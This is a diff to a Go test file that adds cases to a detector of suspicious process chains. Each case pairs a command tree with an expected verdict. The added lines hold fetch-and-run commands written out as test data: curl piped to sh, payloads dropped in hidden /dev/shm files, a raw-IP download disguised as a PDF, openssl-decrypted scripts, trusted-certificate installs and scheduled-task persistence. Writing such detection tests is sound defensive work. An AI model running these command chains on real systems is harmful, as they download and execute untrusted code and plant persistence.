@@ -21,6 +21,33 @@ func TestWeighed(t *testing.T) {
 			>>|/usr/bin/python3|-m json.tool`, false},
 		{"a known maker", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.docker.com
 			>>|/usr/bin/sh|-s`, false},
+		{"a maker nobody lists", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.lumenctl.invalid
+			>>|/usr/bin/sh|-s
+			>>>|/usr/bin/curl|-fsSLo /usr/local/bin/lumenctl https://dl.lumenctl.invalid/linux
+			>>>|/usr/bin/systemctl|enable --now lumenctl`, false},
+		{"a maker nobody lists, with a hidden file", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.lumenctl.invalid
+			>>|/usr/bin/sh|-s
+			>>>|/usr/bin/curl|-fsSLo /dev/shm/.kworker https://dl.lumenctl.invalid/linux
+			>>>|/dev/shm/.kworker|-d`, true},
+		{"a firm's sub-domain for those who join it", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/curl|-fsSL https://onboarding.nordkai.invalid/mac.sh
+			>>|/bin/bash|-s
+			>>>|/usr/bin/security|add-trusted-cert -d -k /Library/Keychains/System.keychain /tmp/nordkai.pem
+			>>>|/bin/launchctl|load /Users/ana/Library/LaunchAgents/com.nordkai.vpn.plist`, false},
+		{"a maker's updater and task", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Users\ana\Downloads\Taxor_Setup.exe|/q
+			>>|C:\Windows\System32\bitsadmin.exe|/transfer u https://update.taxor.invalid/26.msp C:\Users\ana\AppData\Local\Temp\26.msp
+			>>|C:\Windows\System32\schtasks.exe|/create /tn Taxor /tr C:\Users\ana\AppData\Local\Taxor\upd.exe /sc weekly`, false},
+		{"an archive by the name of a paper", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Windows\System32\cmd.exe|/c start /min
+			>>|C:\Windows\System32\curl.exe|-Lo C:\Users\ana\AppData\Local\x.pdf http://198.51.100.9/gm
+			>>|C:\Windows\System32\tar.exe|-xf C:\Users\ana\AppData\Local\x.pdf -C C:\Users\ana\AppData\Local`, true},
+		{"decoded before it is run", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/curl|-s https://files.lumenctl.invalid/e -o /tmp/e
+			>>|/usr/bin/openssl|enc -d -aes-256-cbc -k zoom -in /tmp/e -out /tmp/e.sh
+			>>|/bin/zsh|/tmp/e.sh`, true},
 		{"the own network", "linux", terminal + `>>|/usr/bin/curl|-sk https://10.0.0.8/i -o /tmp/i
 			>>|/usr/bin/bash|/tmp/i`, false},
 		{"ruby brings and evaluates", "darwin", `|/Users/ana/Downloads/Minutes.app/Contents/MacOS/applet|
